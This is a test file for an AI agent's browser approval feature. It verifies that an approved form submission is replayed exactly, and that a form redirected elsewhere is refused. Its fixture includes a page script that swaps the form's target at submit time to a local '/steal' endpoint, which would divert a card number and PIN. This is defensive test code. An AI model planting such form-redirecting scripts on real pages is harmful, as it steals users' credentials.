/**
 * "You approve exactly what you saw" for browser submissions (issue 31), through the real loop,
 * the stand-in model over HTTP and real Chromium: the pending approval shows the method, the
 * absolute target and every field, hidden ones too; approving replays exactly that. When the
 * page's form targets another place by the time the user says yes — in its markup, or by a script
 * that swaps the target while it submits — the replay refuses in one line saying why, and neither
 * the other place nor the site receives anything. A form token the page issues afresh is the
 * page's own and may change.
 */
import assert from "node:assert/strict";
import { needing } from "../helpers/system_parts.ts";
import { parseArguments } from "../../src/away/approvals.ts";
import {
  browserProcessesAfter,
  chromiumPath,
  type PageServer,
  renewUnattended,
  type SeenRequest,
  servePages,
  testUsersNetwork,
} from "../helpers/browser_pages.ts";
import { withFakeLlmRadar } from "../helpers/fake_llm_home.ts";

const yaml =
  `llm:\n  retries: 0\nplugins:\n  enabled: false\nbrowser:\n  executable: "${chromiumPath}"
  allowed_hosts: ["127.0.0.1"]\n`;

const posts = (seen: SeenRequest[]) => seen.filter((request) => request.method !== "GET");

/** How the library's renewal form is served right now (the test changes it between runs). */
interface FormState {
  /** The form's action attribute. */
  action: string;
  /** A script that swaps the action while the form submits (empty: none). */
  swapTo: string;
  /** Loads so far (each load issues a fresh token). */
  loads: number;
}

/** A library site whose renewal form the test can re-target. */
function library(state: FormState): PageServer {
  return servePages({
    "/renew": () => {
      state.loads++;
      const swap = state.swapTo
        ? `<script>document.forms[0].addEventListener("submit", (event) => {
            event.target.setAttribute("action", "${state.swapTo}");
          }, true);</script>`
        : "";
      return new Response(
        `<!doctype html><title>Renew loans</title><h1>Renew your loans</h1>
        <form method="post" action="${state.action}">
          <input type="hidden" name="token" value="t${state.loads}">
          <label>Card number <input name="card"></label>
          <label>PIN <input type="password" name="pin"></label>
          <button type="submit">Renew all</button>
        </form>${swap}`,
        { headers: { "content-type": "text/html" } },
      );
    },
    "/renewed": () =>
      new Response("<p>Renewed 3 books.</p>", { headers: { "content-type": "text/html" } }),
  });
}

Deno.test(needing(["chromium"], {
  name:
    "a submission's approval shows method, target and every field; a re-targeted form refuses on replay, nothing sent",
}, async () => {
  const sink = servePages({ "/steal": "<p>thanks</p>" });
  const state: FormState = { action: "/renewed", swapTo: "", loads: 0 };
  const site = library(state);
  try {
    await withFakeLlmRadar({
      prefix: "radar-browser-replay-",
      usersNetwork: testUsersNetwork,
      yaml,
    }, async (radar, { server }) => {
      // 1. Held: the approval shows what the form sends, whole.
      await renewUnattended(radar, server, site);
      const [first] = radar.away.approvals.list({ pendingOnly: true });
      const summary = first.summary ?? "";
      assert.match(summary, /^Submit on http:\/\/127\.0\.0\.1:\d+\/renew \(clicking "Renew all"\)/);
      assert.ok(
        summary.includes(`sends POST ${site.origin}/renewed (form submit)\n`),
        summary,
      );
      assert.match(summary, /token \(hidden\): t1\n/);
      assert.match(summary, /Card number: 2231 8841\n/);
      assert.match(summary, /PIN: ••••••/);
      const stored = parseArguments(first.arguments);
      assert.equal(stored.target, `${site.origin}/renewed`);

      // 2. The form now posts elsewhere: refused before anything is clicked.
      state.action = `${sink.origin}/steal`;
      const moved = await radar.away.approvals.approve(first.id, "cli");
      assert.equal(moved.state, "failed", moved.text);
      assert.equal(
        moved.text,
        `Not submitted: the form on ${site.origin}/renew changed since it was approved: it now ` +
          `sends POST to ${sink.origin}/steal, not POST to ${site.origin}/renewed.`,
      );

      // 3. A script swaps the target as the form submits: the check before the click sees the
      // approved target, the request the click makes goes elsewhere and is held, not sent.
      state.action = "/renewed";
      state.swapTo = `${sink.origin}/steal`;
      await renewUnattended(radar, server, site);
      const [second] = radar.away.approvals.list({ pendingOnly: true });
      assert.ok((second.summary ?? "").includes(`sends POST ${site.origin}/renewed`));
      const swapped = await radar.away.approvals.approve(second.id, "cli");
      assert.equal(swapped.state, "failed", swapped.text);
      assert.equal(
        swapped.text,
        `Not submitted: the page now sends POST ${sink.origin}/steal instead of what was ` +
          `approved (it now sends POST to ${sink.origin}/steal, not POST to ` +
          `${site.origin}/renewed); nothing was sent.`,
      );
      state.swapTo = "";

      assert.deepEqual(sink.seen, [], "the other place received nothing");
      assert.deepEqual(posts(site.seen), [], "the site received no submission either");

      // 4. Unchanged but for the fresh token: exactly what was shown goes, once.
      await renewUnattended(radar, server, site);
      const [third] = radar.away.approvals.list({ pendingOnly: true });
      const approved = await radar.away.approvals.approve(third.id, "cli");
      assert.equal(approved.state, "done", approved.text);
      assert.match(approved.text, /^Submitted\. Sent POST http:\/\/127\.0\.0\.1:\d+\/renewed\./);
      const [sent, ...more] = posts(site.seen);
      assert.deepEqual(more, []);
      const body = new URLSearchParams(sent.body);
      assert.deepEqual([...body.keys()], ["token", "card", "pin"]);
      assert.equal(body.get("card"), "2231 8841");
      assert.notEqual(body.get("token"), "t1", "the page's fresh token");
      assert.deepEqual(sink.seen, []);
      assert.deepEqual(await browserProcessesAfter(15_000), []);
    });
  } finally {
    await site.close();
    await sink.close();
  }
}));
